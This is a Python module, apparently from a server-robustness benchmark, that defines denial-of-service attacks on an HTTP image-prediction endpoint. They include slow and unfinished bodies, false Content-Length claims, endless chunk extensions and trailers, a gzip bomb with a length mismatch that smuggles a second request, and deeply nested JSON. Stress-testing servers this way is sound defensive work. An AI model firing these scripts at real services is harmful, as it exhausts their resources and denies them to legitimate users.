"""Attacks by the bodies of requests: slow, unfinished, badly framed, or slow to parse."""

import gzip
from base64 import b64encode
from itertools import repeat

from qualms.bench.attacks.definition import CHUNK, Script, Wait, attack, head, post
from qualms.bench.attacks.payloads import FORM, MAX_BODY, in_pieces, noise_png

_CHUNKED = head("POST /predict", Content_Type="image/png", Transfer_Encoding="chunked")


def _large_image() -> bytes:
    return post(noise_png())


@attack("slow-bodies", "bodies of which a byte comes each second", connections=500)
def slow_bodies(_: bytes) -> Script:
    """Each has a slot in whatever is limited per request."""
    yield head("POST /predict", Content_Type="image/png", Content_Length=100_000)
    while True:
        yield b"b"
        yield 1.0


@attack("waiting-bodies", "96 images of 16 MB at once, which wait to be decoded", payload=_large_image, connections=96)
def waiting_bodies(request: bytes) -> Script:
    """1.5 GB if all of them are kept."""
    yield from in_pieces(request)
    yield Wait.REPLY


@attack("unfinished-bodies", "96 bodies of 16 MB without their last byte", payload=_large_image, connections=96)
def unfinished_bodies(request: bytes) -> Script:
    """As above, and none can be answered."""
    yield from in_pieces(memoryview(request)[:-1])
    yield Wait.CLOSE


@attack("announced-bodies", "1,000 requests that announce 16 MB and send 1 kB", connections=1000)
def announced_bodies(_: bytes) -> Script:
    """A server that reserves what is announced runs out of memory, or of its budget for uploads."""
    yield head("POST /predict", Content_Type="image/png", Content_Length=MAX_BODY) + bytes(1000)
    yield Wait.CLOSE


@attack("too-large-bodies", "bodies announced with 10 EB and sent at full rate", connections=8)
def too_large_bodies(_: bytes) -> Script:
    """The server should refuse by the head."""
    yield head("POST /predict", Content_Type="image/png", Content_Length=10**19 // 2)
    yield from repeat(bytes(CHUNK))


@attack("expect-without-body", "Expect: 100-continue, and then no body", connections=500)
def expect_without_body(_: bytes) -> Script:
    """The server waits for a body that it has asked for."""
    yield head("POST /predict", Content_Type="image/png", Content_Length=MAX_BODY, Expect="100-continue")
    yield Wait.CLOSE


@attack("one-byte-chunks", "chunked bodies in chunks of one byte", connections=4)
def one_byte_chunks(_: bytes) -> Script:
    """Each byte costs a callback of the parser."""
    yield _CHUNKED
    yield from repeat(b"1\r\nx\r\n" * (CHUNK // 6))


@attack("chunk-extensions", "a chunk extension that never ends", connections=4)
def chunk_extensions(_: bytes) -> Script:
    """Parsers skip extensions, so that no limit on bodies counts them."""
    yield _CHUNKED + b"1;"
    yield from repeat(b"e" * CHUNK)


@attack("many-chunk-extensions", "one-byte chunks, each with an extension of 8 kB", connections=4)
def many_chunk_extensions(_: bytes) -> Script:
    """Each extension is short enough, their sum is not."""
    yield _CHUNKED
    yield from repeat((b"1;" + b"e" * 8192 + b"\r\nx\r\n") * 8)


@attack("endless-trailers", "trailers after a chunked body that never end", connections=4)
def endless_trailers(_: bytes) -> Script:
    """Limits on headers may not count trailers."""
    yield _CHUNKED + b"1\r\nx\r\n0\r\n"
    yield from repeat(b"a: b\r\n" * (CHUNK // 6))


@attack("endless-chunks", "a chunked body that never ends", connections=4)
def endless_chunks(_: bytes) -> Script:
    """No length is announced that could be refused."""
    yield _CHUNKED
    yield from repeat(b"%x\r\n%b\r\n" % (CHUNK, bytes(CHUNK)))


def _gzip_bomb() -> bytes:
    return gzip.compress(bytes(2**28), 1)


@attack("gzip-bodies", "bodies that expand to 256 MB", payload=_gzip_bomb, connections=8)
def gzip_bodies(bomb: bytes) -> Script:
    """A bomb if the server expands it; the second has half its true length, and the rest is read as a request."""
    for length in (len(bomb), len(bomb) // 2):
        yield head("POST /predict", Content_Type="image/png", Content_Encoding="gzip", Content_Length=length) + bomb
        yield Wait.REPLY


def _json(inner: bytes, opening: bytes = b"[", closing: bytes = b"]") -> bytes:
    return post(b'{"images": [' + opening + inner + closing + b"]}", "application/json")


def _json_floats() -> bytes:
    row = b"[" + b",".join([b"0.5"] * 1000) + b"]"
    return _json(b",".join([row] * (MAX_BODY // len(row) - 1)))


def _json_nested() -> bytes:
    depth = MAX_BODY // 2 - 100
    return _json(b"", b"[" * depth, b"]" * depth)


def _json_arrays() -> bytes:
    return _json(b",".join([b"[]"] * (MAX_BODY // 3 - 100)))


def _json_base64() -> bytes:
    return _json(b64encode(bytes(MAX_BODY // 4 * 3 - 100)), b'"', b'"')


def _multipart_parts() -> bytes:
    part = b'--boundary\r\nContent-Disposition: form-data; name="a"; filename="b"\r\n\r\nc\r\n'
    return post(part * (MAX_BODY // len(part) - 1) + b"--boundary--\r\n", FORM)


def _multipart_headers() -> bytes:
    return post(b"--boundary\r\nContent-Disposition: form-data; name=" + b"n" * (MAX_BODY - 100) + b"\r\n", FORM)


@attack("json-floats", "16 MB of JSON floats", payload=_json_floats, connections=8)
@attack("json-nested", "16 MB of nested JSON arrays", payload=_json_nested, connections=8)
@attack("json-arrays", "16 MB of empty JSON arrays", payload=_json_arrays, connections=8)
@attack("json-base64", "16 MB of base64 in one JSON string", payload=_json_base64, connections=8)
@attack("multipart-parts", "16 MB of parts of a form", payload=_multipart_parts, connections=8)
@attack("multipart-headers", "16 MB in the header of one part of a form", payload=_multipart_headers, connections=8)
def repeated_request(request: bytes) -> Script:
    """Post a body that takes long to parse, at full rate."""
    while True:
        yield from in_pieces(request)
        yield Wait.REPLY
